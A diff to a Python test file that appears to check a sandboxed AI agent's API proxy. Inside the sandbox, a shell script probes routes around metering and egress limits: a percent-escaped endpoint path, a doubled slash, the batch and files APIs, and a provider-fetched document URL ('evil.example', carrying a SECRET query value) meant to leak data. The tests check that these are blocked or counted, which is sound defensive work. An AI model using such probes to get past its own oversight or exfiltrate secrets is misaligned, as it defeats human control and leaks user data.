@@ -151,22 +151,31 @@ def test_at_80_percent_the_owner_gets_a_card_once_and_the_answer_still_comes(mak
 
 
 SHELL_TRIES = r"""python3 - <<'PY'
-import os, urllib.request, urllib.error
+import json, os, urllib.request, urllib.error
 base = os.environ["ANTHROPIC_BASE_URL"].rstrip("/")
-body = b'{"model": "claude-sonnet-4-5", "max_tokens": 5, "messages": [{"role": "user", "content": "x"}]}'
-for path in ("/v1/messages/batches", "/v1//messages", "/v1/%6dessages", "/v1/files"):
-    req = urllib.request.Request(base + path, data=body, headers={"content-type": "application/json"})
+def ask(content, **extra):
+    return json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 5, "messages": [{"role": "user", "content": content}],
+                       **extra}).encode()
+body = ask("x")
+doc = ask([{"type": "document", "source": {"type": "url", "url": "https://evil.example/x?d=SECRET"}}])
+search = ask("y", tools=[{"type": "web_search_20250305", "name": "web_search"}])
+for name, path, data in (("batches", "/v1/messages/batches", body), ("doubled", "/v1//messages", body),
+                         ("escaped", "/v1/%6dessages", body), ("files", "/v1/files", body),
+                         ("url-doc", "/v1/messages", doc), ("search", "/v1/messages", search)):
+    req = urllib.request.Request(base + path, data=data, headers={"content-type": "application/json"})
     try:
         code = urllib.request.urlopen(req, timeout=30).status
     except urllib.error.HTTPError as exc:
         code = exc.code
-    print("TRIED", path, code)
+    print("TRIED", name, code)
 PY"""
 
 
 def test_the_agents_shell_reaches_no_billed_endpoint_but_the_messages_one_and_that_is_counted(make_settings, sqlite_url):
     """From inside a real sandbox: the batch API and a doubled slash never reach the provider; an
-    escaped spelling of /v1/messages arrives as /v1/messages and is in the ledger like any call."""
+    escaped spelling of /v1/messages arrives as /v1/messages and is in the ledger like any call. A
+    document the provider would fetch from the agent's URL, and the provider's own web search, are
+    refused at the door (issue 60, item 4): the URL never leaves the machine."""
     def shell(req):
         done = req.turn_tool_results()
         if req.path != "/v1/messages" or "hello" not in req.current_prompt():
@@ -183,11 +192,12 @@ def test_the_agents_shell_reaches_no_billed_endpoint_but_the_messages_one_and_th
         svc.post(message(111, OWNER, "hello"))
         said = svc.wait(lambda: next((t for t in texts(svc.tg, 111) if t.startswith("shell said")), None),
                         what="the shell's report")
-        assert "TRIED /v1/messages/batches 404" in said and "TRIED /v1//messages 400" in said
-        assert "TRIED /v1/%6dessages 200" in said and "TRIED /v1/files 404" in said
+        assert "TRIED batches 404" in said and "TRIED doubled 400" in said
+        assert "TRIED escaped 200" in said and "TRIED files 404" in said
+        assert "TRIED url-doc 400" in said and "TRIED search 400" in said
         paths = [r.path for r in svc.model.requests]
         assert set(paths) <= {"/v1/messages", "/v1/messages/count_tokens"}, paths
         escaped = [r for r in svc.model.model_calls() if "max_tokens" in (r.body or {}) and r.body["max_tokens"] == 5]
-        assert len(escaped) == 1  # the shell's one call that may go
+        assert len(escaped) == 1  # the shell's one call that may go: not the document's, not the search's
         svc.wait(lambda: sum(r.calls for r in ModelUsage.select()) >= len(svc.model.model_calls()),
                  what="every model call in the ledger")
